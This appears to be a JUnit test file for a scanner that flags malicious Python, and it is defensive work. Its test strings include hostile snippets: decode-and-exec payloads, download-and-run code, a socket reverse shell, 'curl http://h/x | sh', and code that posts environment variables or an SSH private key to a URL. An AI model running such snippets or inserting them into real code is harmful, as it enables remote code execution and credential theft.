package dev.vidimus.scan.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vidimus.artifact.Bytes;
import dev.vidimus.artifact.Limits;
import dev.vidimus.artifact.Location;
import dev.vidimus.artifact.RuleId;
import dev.vidimus.artifact.Spool;
import dev.vidimus.scan.inspection.Inspection;
import dev.vidimus.scan.inspection.ScanOptions;
import dev.vidimus.scan.inspection.Target;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PythonScannerTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "from base64 import b64decode as d\n"
            + "code = d(x)\n"
            + "def f():\n"
            + "  exec(compile(code, '', 'exec'))\n",
        "import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))\n",
        "eval(bytes.fromhex('31').decode())\n",
        "import os, codecs\ndef f(): os.system(codecs.decode('vq', 'rot13'))\n",
      })
  void whatDecodesAndRunsIsMalicious(String program) throws Exception {
    assertThat(rules(program)).contains(PythonRule.DECODED_CODE.id());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import requests\ndef f():\n  exec(requests.get(u).text)\n",
        "import subprocess, urllib.request\ndef f():\n"
            + "  subprocess.call(['sh', '-c', urllib.request.urlopen(u).read()])\n",
        "from urllib.request import urlopen\ncode = urlopen(u).read()\neval(code)\n",
      })
  void whatDownloadsAndRunsIsMalicious(String program) throws Exception {
    assertThat(rules(program)).contains(PythonRule.DOWNLOADED_CODE.id());
  }

  @Test
  void aShellOnASocketIsMalicious() throws Exception {
    assertThat(
            rules(
                "import socket, os, pty\ns = socket.socket()\ns.connect((h, 1))\n"
                    + "os.dup2(s.fileno(), 0)\npty.spawn('sh')\n"))
        .contains(PythonRule.REMOTE_SHELL.id());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import os\nos.system('echo x')\n",
        "import os\nclass A:\n  os.system(c)\n",
        "from os import system\ndef f(a=system(c)): pass\n",
        "import subprocess as s\ndef f(): s.run(c)\ndef g(): f()\ng()\n",
        "from os import *\nsystem(c)\n",
        "import os\nx = f'{os.popen(c).read()}'\n",
        "import os\nclass A:\n  def __init__(self): os.system(c)\nA()\n",
        "if x:\n  exec('import os; os.system(c)')\n",
      })
  void whatImportingStartsIsSuspicious(String program) throws Exception {
    assertThat(rules(program)).contains(PythonRule.IMPORT_EFFECT.id());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "def f(): __import__('os').system(c)\n",
        "import os\ndef f(): getattr(os, 'sys' + 'tem')(c)\n",
        "import os\ndef f(): getattr(os, n)(c)\n",
        "import sys\ndef f(): sys.modules['os'].system(c)\n",
        "import os\ndef f(): os.__dict__['system'](c)\n",
        "import importlib\ndef f(): importlib.import_module(chr(111) + 's').system(c)\n",
        "e = exec\ndef f(): e(c)\n",
        "def f(): getattr(__builtins__, 'lave'[::-1])(c)\n",
      })
  void whatHidesItsCallIsSuspicious(String program) throws Exception {
    assertThat(rules(program)).contains(PythonRule.HIDDEN_NAME.id());
  }

  @Test
  void aHarmfulCommandIsSuspiciousWhereverItStands() throws Exception {
    assertThat(rules("import os\ndef f(): os.system('curl http://h/x | sh')\n"))
        .contains(PythonRule.HARMFUL_COMMAND.id());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import os, requests\ndef f(): requests.post(u, json=dict(os.environ))\n",
        "import requests\ndef f():\n  k = open('/home/u/.ssh/id_rsa').read()\n"
            + "  requests.post(u, data=k)\n",
      })
  void whatSendsCredentialsAwayIsSuspicious(String program) throws Exception {
    assertThat(rules(program)).contains(PythonRule.EXFILTRATION.id());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import torch\nclass Net(torch.nn.Module):\n  def step(self, x):\n    self.eval()\n"
            + "    return eval_loss(x)\n",
        "import base64, io\ndef image(s): return open_image(io.BytesIO(base64.b64decode(s)))\n",
        "from .configuration_x import XConfig\nlogger = logging.get_logger(__name__)\n"
            + "class X(PreTrainedModel):\n  config_class = XConfig\n",
        "import importlib\ndef load(n): return getattr(importlib.import_module('torch.nn'), n)\n",
        "df = pandas.read_csv(p)\ndf.eval('a + b')\nre.compile('x')\n",
      })
  void ordinaryCodeIsQuiet(String program) throws Exception {
    assertThat(rules(program)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import subprocess\ndef f(p): return subprocess.run(['ffmpeg', '-i', p], check=True)\n",
        "import os, requests\n"
            + "def f(u):\n"
            + "  return requests.get(u, headers={'a': os.environ['TOKEN'] +"
            + " os.environ.get('B')})\n",
        "import os\nif __name__ == '__main__':\n  os.system('echo x')\n",
        "import subprocess\nv = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
        "exec(open('version.py').read())\n",
        "import requests\ndef image(u): return Image.open(requests.get(u, stream=True).raw)\n",
      })
  void anAbilityIsOnlyMentioned(String program) throws Exception {
    assertThat(rules(program)).containsExactly(PythonRule.CAPABILITY.id());
  }

  @Test
  void namesThatReferToOneAnotherInCirclesEnd() throws Exception {
    String circles = "a = getattr(a, a.b64decode(a))\nb = a.x\na = b[a]\na = a(b)\n".repeat(200);
    assertThat(rules(circles + "a(b)\na.b(a)\nexec(a)\n")).isNotEmpty();
  }

  @Test
  void aProgramThatCannotBeReadIsNotExamined() throws Exception {
    Inspection inspection = scan("print 'x'\n");
    assertThat(inspection.findings()).isEmpty();
    assertThat(inspection.notExamined()).hasSize(1);
  }

  private static List<RuleId> rules(String program) throws IOException {
    Inspection inspection = scan(program);
    assertThat(inspection.notExamined()).isEmpty();
    return inspection.findings().stream().map(finding -> finding.rule()).toList();
  }

  private static Inspection scan(String program) throws IOException {
    Inspection inspection =
        new Inspection(
            new ScanOptions(Limits.DEFAULT, false),
            new Spool(Path.of("target"), Limits.DEFAULT.spoolBytes()),
            (target, same) -> {});
    Bytes bytes = Bytes.of(program.getBytes(StandardCharsets.UTF_8));
    new PythonScanner().scan(Target.file(bytes, Location.of("x.py"), "x.py"), inspection);
    return inspection;
  }
}
